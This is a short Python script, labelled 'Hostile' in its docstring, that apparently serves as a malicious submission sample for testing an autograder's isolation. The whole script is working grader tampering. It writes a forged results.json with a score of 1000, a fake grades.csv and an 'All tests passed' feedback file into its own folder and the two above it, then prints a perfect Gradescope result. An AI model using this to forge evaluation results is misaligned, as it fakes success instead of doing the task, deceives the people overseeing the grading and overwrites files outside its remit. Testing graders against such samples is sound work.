"""Hostile: writes a perfect results.json and grades.csv where it can.

It tries its working folder and the two folders above it (where a grader
might keep its output), and prints a perfect Gradescope result.
"""

import json
from pathlib import Path

FAKE = {"score": 1000.0, "tests": [{"name": "everything", "score": 1000.0,
                                    "max_score": 1.0, "output": "perfect"}]}
CSV = ("submission,ch01,ch02,ch03,ch04,ch05,ch06,ch07,total\n"
       "fake,99,99,99,99,99,99,99,999\n")

here = Path.cwd()
for folder in (here, here.parent, here.parent.parent):
    for name, text in (("results.json", json.dumps(FAKE)), ("grades.csv", CSV),
                       ("feedback.txt", "All tests passed.\n")):
        try:
            (folder / name).write_text(text)
        except OSError:
            pass
print(json.dumps(FAKE))
